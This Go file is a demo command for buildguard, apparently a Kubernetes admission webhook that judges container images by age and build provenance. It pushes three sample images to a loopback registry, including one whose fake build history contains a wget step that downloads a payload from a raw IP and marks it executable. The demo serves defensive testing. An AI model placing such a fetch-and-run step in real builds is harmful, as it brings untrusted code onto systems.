// Command demo plays buildguard's main job end to end on this machine: it
// runs a registry on loopback holding three sample images (one built by a
// pipeline days ago, one created seconds ago, one whose build downloaded
// a payload from a raw IP address), starts the real `buildguard serve`
// over HTTPS, sends it the AdmissionReviews the API server would send for
// Pods using them, and runs `buildguard check` on the same images.
//
//	go run ./cmd/demo -buildguard bin/buildguard
package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strings"
	"time"

	"github.com/google/go-containerregistry/pkg/name"
	ggcrregistry "github.com/google/go-containerregistry/pkg/registry"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	admissionv1 "k8s.io/api/admission/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"

	"buildguard.dev/buildguard/internal/selfsigned"
	"buildguard.dev/buildguard/internal/testregistry"
)

func main() {
	bin := flag.String("buildguard", "bin/buildguard", "path of the buildguard binary")
	keep := flag.Bool("keep", false, "keep the work directory")
	flag.Parse()
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()
	if err := run(ctx, *bin, *keep); err != nil {
		fmt.Fprintln(os.Stderr, "demo:", err)
		os.Exit(1)
	}
}

type sample struct {
	name, story string
	spec        testregistry.Image
}

func run(ctx context.Context, bin string, keep bool) error {
	dir, err := os.MkdirTemp("", "buildguard-demo-")
	if err != nil {
		return err
	}
	if !keep {
		defer os.RemoveAll(dir)
	}

	// 1. A registry on loopback.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	regSrv := &http.Server{Handler: ggcrregistry.New(ggcrregistry.Logger(log.New(io.Discard, "", 0))), ReadHeaderTimeout: 5 * time.Second}
	go regSrv.Serve(ln)
	defer regSrv.Close()
	host := ln.Addr().String()
	section("A registry on %s with three images", host)

	now := time.Now()
	samples := []sample{
		{"demo/shop:1.4", "built by the release pipeline 3 days ago", testregistry.Image{Created: now.Add(-72 * time.Hour), Steps: []string{
			"/bin/sh -c #(nop) ADD file:5d7a3b1c in / ",
			"RUN /bin/sh -c apt-get update && apt-get install -y --no-install-recommends ca-certificates # buildkit",
			"COPY shop /usr/local/bin/shop # buildkit",
		}}},
		{"demo/hotfix:dev", "built on a node 8 seconds ago", testregistry.Image{Created: now.Add(-8 * time.Second), Steps: []string{
			"/bin/sh -c #(nop) ADD file:5d7a3b1c in / ",
			"COPY hotfix /usr/local/bin/hotfix # buildkit",
		}}},
		{"demo/tool:2", "built last week; a RUN step downloaded a payload from a raw IP", testregistry.Image{Created: now.Add(-7 * 24 * time.Hour), Steps: []string{
			"/bin/sh -c #(nop) ADD file:5d7a3b1c in / ",
			"RUN /bin/sh -c wget -q http://203.0.113.9:8080/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit",
		}}},
	}
	var images []string
	for _, s := range samples {
		img, err := testregistry.MakeImage(s.spec)
		if err != nil {
			return err
		}
		ref, err := name.ParseReference(host+"/"+s.name, name.Insecure)
		if err != nil {
			return err
		}
		if err := remote.Write(ref, img, remote.WithContext(ctx)); err != nil {
			return fmt.Errorf("push %s: %w", ref, err)
		}
		d, _ := img.Digest()
		fmt.Printf("  pushed %-34s %s…  %s\n", ref.String(), d.String()[:19], s.story)
		images = append(images, ref.String())
	}

	// 2. A policy and a certificate.
	policyFile := filepath.Join(dir, "policy.yaml")
	pol := `apiVersion: buildguard.dev/v1alpha1
kind: Policy
mode: enforce
failurePolicy: deny
registries:
  allow: ["127.0.0.1:*/demo/*"]
  insecure: ["127.0.0.1:*"]
freshness:
  minAge: 10m
trustedSources: ["deb.debian.org", "*.github.com"]
`
	if err := os.WriteFile(policyFile, []byte(pol), 0o644); err != nil {
		return err
	}
	section("The policy (%s)", policyFile)
	fmt.Print(indent(pol))
	certs, err := selfsigned.Write(dir, "127.0.0.1")
	if err != nil {
		return err
	}

	// 3. The real server.
	port, err := freePort()
	if err != nil {
		return err
	}
	addr := fmt.Sprintf("127.0.0.1:%d", port)
	logPath := filepath.Join(dir, "buildguard.log")
	logFile, err := os.Create(logPath)
	if err != nil {
		return err
	}
	defer logFile.Close()
	srv := exec.CommandContext(ctx, bin, "serve", "--config", policyFile, "--listen", addr,
		"--tls-cert-file", certs.Cert, "--tls-private-key-file", certs.Key, "--log-format", "text")
	srv.Stdout, srv.Stderr = logFile, logFile
	srv.Cancel = func() error { return srv.Process.Signal(os.Interrupt) }
	srv.WaitDelay = 5 * time.Second
	if err := srv.Start(); err != nil {
		return err
	}
	defer srv.Wait()
	defer srv.Process.Signal(os.Interrupt)
	client := httpsClient(certs.CAPEM)
	if err := waitReady(ctx, client, "https://"+addr+"/readyz"); err != nil {
		b, _ := os.ReadFile(logPath)
		return fmt.Errorf("%w\n%s", err, b)
	}
	section("buildguard serve is up on https://%s (log: %s)", addr, logPath)

	// 4. What the API server would send.
	for i, img := range images {
		resp, elapsed, err := review(ctx, client, "https://"+addr+"/validate", img)
		if err != nil {
			return err
		}
		fmt.Printf("\n$ kubectl run demo-%d --image=%s\n", i, img)
		if resp.Allowed {
			fmt.Printf("pod/demo-%d created   (admitted in %s)\n", i, elapsed.Round(time.Microsecond))
			for _, w := range resp.Warnings {
				fmt.Printf("Warning: %s\n", w)
			}
		} else {
			fmt.Printf("Error from server (Forbidden): admission webhook \"validate.buildguard.dev\" denied the request: %s\n   (decided in %s)\n",
				resp.Result.Message, elapsed.Round(time.Microsecond))
		}
		fmt.Printf("  audit annotations: %s\n", mustJSON(resp.AuditAnnotations))
	}

	// 5. The same engine on the command line.
	section("buildguard check, the same engine offline")
	args := append([]string{"check", "--config", policyFile}, images...)
	fmt.Printf("$ buildguard %s\n", strings.Join(args, " "))
	code, err := runCmd(ctx, bin, args...)
	if err != nil {
		return err
	}
	fmt.Printf("(exit status %d: 0 admitted, 1 denied, 2 error)\n", code)
	args = []string{"check", "--config", policyFile, "--output", "json", images[2]}
	fmt.Printf("\n$ buildguard %s\n", strings.Join(args, " "))
	if _, err := runCmd(ctx, bin, args...); err != nil {
		return err
	}
	args = []string{"check", "--config", policyFile, "--mode", "audit", images[1]}
	fmt.Printf("\n$ buildguard %s\n", strings.Join(args, " "))
	code, err = runCmd(ctx, bin, args...)
	if err != nil {
		return err
	}
	fmt.Printf("(exit status %d: audit mode never denies)\n", code)

	section("Next")
	fmt.Println("  make test    all tests")
	fmt.Println("  make bench   throughput and latency against a do-nothing webhook")
	fmt.Println("  docs/policy.md, docs/check.md")
	return nil
}

func section(format string, args ...any) {
	fmt.Printf("\n== "+format+"\n", args...)
}

func indent(s string) string {
	return "  " + strings.ReplaceAll(strings.TrimRight(s, "\n"), "\n", "\n  ") + "\n"
}

func mustJSON(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

func freePort() (int, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return 0, err
	}
	defer ln.Close()
	return ln.Addr().(*net.TCPAddr).Port, nil
}

func httpsClient(caPEM []byte) *http.Client {
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(caPEM)
	return &http.Client{Timeout: 15 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool, MinVersion: tls.VersionTLS12}}}
}

func waitReady(ctx context.Context, c *http.Client, url string) error {
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		req, _ := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
		if resp, err := c.Do(req); err == nil {
			resp.Body.Close()
			if resp.StatusCode == http.StatusOK {
				return nil
			}
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(100 * time.Millisecond):
		}
	}
	return errors.New("buildguard did not become ready within 20s")
}

func review(ctx context.Context, c *http.Client, url, image string) (*admissionv1.AdmissionResponse, time.Duration, error) {
	pod := corev1.Pod{
		TypeMeta:   metav1.TypeMeta{APIVersion: "v1", Kind: "Pod"},
		ObjectMeta: metav1.ObjectMeta{Name: "demo", Namespace: "default"},
		Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: image, ImagePullPolicy: corev1.PullIfNotPresent}}},
	}
	obj, err := json.Marshal(pod)
	if err != nil {
		return nil, 0, err
	}
	body, err := json.Marshal(admissionv1.AdmissionReview{
		TypeMeta: metav1.TypeMeta{APIVersion: "admission.k8s.io/v1", Kind: "AdmissionReview"},
		Request: &admissionv1.AdmissionRequest{
			UID: types.UID("demo-" + fmt.Sprint(time.Now().UnixNano())), Kind: metav1.GroupVersionKind{Version: "v1", Kind: "Pod"},
			Resource: metav1.GroupVersionResource{Version: "v1", Resource: "pods"}, Namespace: "default", Name: "demo",
			Operation: admissionv1.Create, Object: runtime.RawExtension{Raw: obj},
		},
	})
	if err != nil {
		return nil, 0, err
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(body))
	if err != nil {
		return nil, 0, err
	}
	req.Header.Set("Content-Type", "application/json")
	start := time.Now()
	resp, err := c.Do(req)
	if err != nil {
		return nil, 0, err
	}
	defer resp.Body.Close()
	elapsed := time.Since(start)
	var out admissionv1.AdmissionReview
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil || out.Response == nil {
		return nil, 0, fmt.Errorf("bad response (%s): %v", resp.Status, err)
	}
	return out.Response, elapsed, nil
}

func runCmd(ctx context.Context, bin string, args ...string) (int, error) {
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	err := cmd.Run()
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		return ee.ExitCode(), nil
	}
	return 0, err
}
